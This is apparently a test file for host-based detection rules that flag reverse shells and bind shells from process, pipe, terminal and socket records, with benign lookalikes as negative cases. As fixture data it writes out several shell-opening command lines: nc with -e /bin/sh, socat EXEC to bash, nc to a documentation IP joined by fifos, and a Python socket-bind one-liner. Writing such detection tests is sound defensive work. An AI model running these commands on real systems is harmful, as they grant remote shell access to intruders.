import { applet, connected, fileRow, pipeRow, ruleCases, running } from './cases.fixture.ts';
import { bindShell, shellOnSocket } from './shell-on-socket.ts';

const shell = applet(['/bin/sh', '-i'], { pid: 7 });
const all = [
  [7, 0],
  [7, 1],
  [7, 2],
] as const;
const listening = connected(50, [[9, 3]], { state: 'listen', local: 4444, port: 0, place: 'none' });
const terminal = (kind: 'pty-master' | 'pty-slave') =>
  ({ type: 'tty', path: '/dev/pts/0', sid: 7, terminal: { kind, index: 0 } }) as never;

ruleCases(
  shellOnSocket,
  {
    'a reverse shell': {
      rows: { processes: [shell], ...connected(5, all) },
      severity: 'critical',
      says: /203\.0\.113\.7:4443.*opened/,
    },
    'a shell that came in at a port': {
      rows: {
        processes: [shell],
        files: [...connected(5, all, { local: 4444 }).files, ...listening.files],
        sockets: [...connected(5, all, { local: 4444 }).sockets, ...listening.sockets],
      },
      severity: 'critical',
      says: /came in at port 4444/,
    },
    'an interpreter with both ends': {
      rows: { processes: [running(['python3'], { pid: 7, path: '/usr/bin/python3.12' })], ...connected(5, all) },
      severity: 'high',
    },
    'a shell that only reads from one': { rows: { processes: [shell], ...connected(5, [[7, 0]]) }, severity: 'high' },
    'the first of two with the same connection': {
      rows: { processes: [shell, applet(['sh'], { pid: 8, ppid: 7 })], ...connected(5, [...all, [8, 0], [8, 1]]) },
      severity: 'critical',
    },
    'a shell between fifos and nc': {
      rows: {
        processes: [shell, running(['cat', '/tmp/f'], { pid: 8 }), running(['nc', '203.0.113.7', '4443'], { pid: 9 })],
        files: [
          pipeRow(7, 0, 1),
          pipeRow(8, 1, 1),
          pipeRow(8, 0, 2),
          pipeRow(9, 1, 2),
          pipeRow(9, 0, 3),
          pipeRow(7, 1, 3),
          ...connected(5, [[9, 3]]).files,
        ],
        sockets: connected(5, [[9, 3]]).sockets,
      },
      severity: 'critical',
      says: /joined by pipes to process 9 \(nc\)/,
    },
    'a shell on a terminal of socat': {
      rows: {
        processes: [shell, running(['socat', 'tcp:h:1', 'exec:sh,pty'], { pid: 9 })],
        files: [
          fileRow(7, 0, 60, terminal('pty-slave')),
          fileRow(9, 4, 61, terminal('pty-master')),
          ...connected(5, [[9, 3]]).files,
        ],
        sockets: connected(5, [[9, 3]]).sockets,
      },
      severity: 'critical',
      says: /a terminal/,
    },
  },
  {
    'a shell that has a connection beside its streams': { processes: [shell], ...connected(5, [[7, 3]]) },
    'a service of inetd': { processes: [running(['/usr/sbin/in.ftpd'], { pid: 7 })], ...connected(5, all) },
    'a process of FastCGI, which has what listens as its input': {
      processes: [running(['perl', 'app.fcgi'], { pid: 7 })],
      ...connected(5, [[7, 0]], { state: 'listen', port: 0, place: 'none' }),
    },
    'a shell that feeds nc': {
      processes: [shell, running(['nc', 'graphite', '2003'], { pid: 9 })],
      files: [pipeRow(7, 0, 1), pipeRow(7, 1, 3), pipeRow(9, 0, 3), ...connected(5, [[9, 3]]).files],
      sockets: connected(5, [[9, 3]]).sockets,
    },
    'an admin’s shell on a terminal of sshd': {
      processes: [shell, running(['sshd: root@pts/0'], { pid: 9, path: '/usr/sbin/sshd' })],
      files: [
        fileRow(7, 0, 60, terminal('pty-slave')),
        fileRow(9, 4, 61, terminal('pty-master')),
        ...connected(5, [[9, 3]]).files,
      ],
      sockets: connected(5, [[9, 3]]).sockets,
    },
  },
);

const holding = (args: string[], path?: string) => ({
  processes: [running(args, { pid: 9, ...(path === undefined ? {} : { path }) })],
  ...listening,
});

ruleCases(
  bindShell,
  {
    nc: { rows: holding(['nc', '-lvp', '4444', '-e', '/bin/sh']), severity: 'critical', says: /port 4444/ },
    socat: { rows: holding(['socat', 'TCP-LISTEN:4444,reuseaddr,fork', 'EXEC:/bin/bash']), severity: 'critical' },
    'a program on the command line of Python': {
      rows: holding([
        'python3',
        '-c',
        'import socket,subprocess;s=socket.socket();s.bind(("",4444));s.listen();subprocess.call(["sh"])',
      ]),
      severity: 'critical',
    },
    'a shell that listens itself': { rows: holding(['bash'], '/bin/bash'), severity: 'medium' },
  },
  {
    'servers in Python and Node.js': holding(['python3', '-m', 'http.server', '4444']),
    'nc that only listens': holding(['nc', '-lk', '4444']),
    'socat that relays': holding(['socat', 'TCP-LISTEN:4444,fork', 'TCP:db:5432']),
  },
);
